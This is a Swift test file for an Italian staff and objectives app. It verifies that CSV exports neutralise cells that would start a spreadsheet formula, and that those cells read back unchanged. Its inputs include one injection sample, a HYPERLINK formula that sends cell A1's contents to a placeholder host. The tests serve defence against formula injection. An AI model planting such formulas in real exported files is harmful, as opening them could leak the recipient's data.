import SIPAV
import Testing
@testable import SIPAVFiles

/// A title, a name, a reason, an employee id, a category, an Area or a code that a spreadsheet would run as a formula is
/// written with an apostrophe in front, and read without it: whatever the text, `objectives.csv` and `staff.csv` give it back as it was, by the exact readers
/// and the fast ones alike.
@Suite("Texts that would start a formula in the staff and objectives files")
struct SpreadsheetTextTests {
    static let texts = [
        "=HYPERLINK(\"http://x/?\"&A1;\"Clicca\")", "=1+1", "+39 06 1234", "-5", "- riduzione dei tempi", "@SOMMA(A1:A2)",
        "'=A1", "''=A1", "'''+1", "'-", "'@", "'", "''", "'Ndrangheta", "'80", "l'ufficio", "Ridurre i tempi", "=", "",
    ]

    @Test("a cell that would start a formula gets one more apostrophe", arguments: [
        ("=A1", "'=A1"), ("'=A1", "''=A1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
        ("'", "'"), ("'Ndrangheta", "'Ndrangheta"), ("l'=A1", "l'=A1"), ("A=1", "A=1"), ("", ""),
    ])
    func written(text: String, cell: String) {
        #expect(SpreadsheetText.written(text) == cell)
        #expect(SpreadsheetText.read(cell) == text)
    }

    @Test(arguments: texts + ["\t=1", "\r\n=1"])
    func aTitleComesBackAsItWas(text: String) throws {
        let staff = [StaffMember(id: "E1", name: "Rossi Anna", role: .dipendente, category: "C", area: 0)]
        let objectives = [IndividualObjective(person: 0, code: "OB1", title: text, weightBasisPoints: 10_000, cosa: nil, come: nil)]
        let written = StaffWriter.objectivesCSV(objectives, staff: staff)
        if text.first.map({ "=+-@".contains($0) }) == true {
            #expect(written.contains(";'" + text.prefix(1)) || written.contains(";\"'" + text.prefix(1)), "\(written)")
        }
        let exact = try ObjectivesFile.parse(bytes: Array(written.utf8), file: "objectives.csv", staff: staff).objectives
        let fast = try ObjectivesFile.load(path: try temporaryFile("objectives.csv", Array(written.utf8)), staff: staff).objectives
        #expect(exact.map(\.title) == [text])
        #expect(Array(fast).map(\.title) == [text])
    }

    @Test(arguments: texts.filter { !$0.isEmpty })
    func aNameAndAReasonComeBackAsTheyWere(text: String) throws {
        let areas = [Area(id: "A1", name: "Area Uno", manager: nil)]
        // A reason is words: one of digits and signs alone is an answer where a reason goes (`StaffFile`).
        let staff = [StaffMember(id: "E1", name: text, role: .dipendente, category: "C", area: 0, notAssessableReason: text + " da luglio"),
                     StaffMember(id: "E2", name: "Bruno " + text, role: .dipendente, category: "C", area: 0)]
        let written = Array(StaffWriter.staffCSV(staff, areas: areas).utf8)
        let exact = try StaffFile.parse(bytes: written, file: "staff.csv", areas: areas).staff
        let fast = try StaffFile.load(path: try temporaryFile("staff.csv", written), areas: areas).staff
        #expect(exact == staff)
        #expect(fast == staff)
    }

    /// The keys too: an employee id, a category, an Area and an objective's code that would start a formula are
    /// written guarded, and read back as they were, the objectives still finding their person, by both readers.
    @Test(arguments: ["=1+1", "-5", "+39", "@A", "'=A1", "'80", "E1"])
    func idsCategoriesAreasAndCodesComeBackAsTheyWere(text: String) throws {
        let areas = [Area(id: text, name: "Area Uno", manager: nil)]
        let staff = [StaffMember(id: text, name: "Rossi Anna", role: .dipendente, category: text, area: 0),
                     StaffMember(id: "E2" + text, name: "Bruno Carlo", role: .dipendente, category: "C", area: 0)]
        let objectives = [IndividualObjective(person: 0, code: text, title: "Uno", weightBasisPoints: 10_000, cosa: 5, come: .a),
                          IndividualObjective(person: 1, code: "OB1", title: "Due", weightBasisPoints: 10_000, cosa: nil, come: nil)]
        let staffBytes = Array(StaffWriter.staffCSV(staff, areas: areas).utf8)
        let objectiveBytes = Array(StaffWriter.objectivesCSV(objectives, staff: staff).utf8)
        if text.first.map({ "=+-@".contains($0) }) == true {
            #expect(String(decoding: staffBytes, as: UTF8.self).contains("\n'\(text);"))
            #expect(String(decoding: objectiveBytes, as: UTF8.self).contains("\n'\(text);'\(text);"))
        }
        let exactStaff = try StaffFile.parse(bytes: staffBytes, file: "staff.csv", areas: areas).staff
        let fastStaff = try StaffFile.load(path: try temporaryFile("staff.csv", staffBytes), areas: areas).staff
        #expect(exactStaff == staff)
        #expect(fastStaff == staff)
        let exact = try ObjectivesFile.parse(bytes: objectiveBytes, file: "objectives.csv", staff: staff).objectives
        let fast = Array(try ObjectivesFile.load(path: try temporaryFile("objectives.csv", objectiveBytes), staff: staff).objectives)
        #expect(exact.map(\.code) == [text, "OB1"] && exact.map(\.person) == [0, 1])
        #expect(fast.map(\.code) == [text, "OB1"] && fast.map(\.person) == [0, 1])
    }

    /// The apostrophe written in front is not counted against a title's 500 characters: a title of 500 that starts a
    /// formula is read back, by both readers.
    @Test func theApostropheDoesNotCountAgainstTheLength() throws {
        let staff = [StaffMember(id: "E1", name: "Rossi Anna", role: .dipendente, category: "C", area: 0)]
        let title = "=" + String(repeating: "x", count: TextLimits.title - 1)
        let objectives = [IndividualObjective(person: 0, code: "OB1", title: title, weightBasisPoints: 10_000, cosa: nil, come: nil)]
        let written = Array(StaffWriter.objectivesCSV(objectives, staff: staff).utf8)
        #expect(try ObjectivesFile.parse(bytes: written, file: "objectives.csv", staff: staff).objectives.map(\.title) == [title])
        #expect(Array(try ObjectivesFile.load(path: try temporaryFile("objectives.csv", written), staff: staff).objectives).map(\.title) == [title])
    }
}
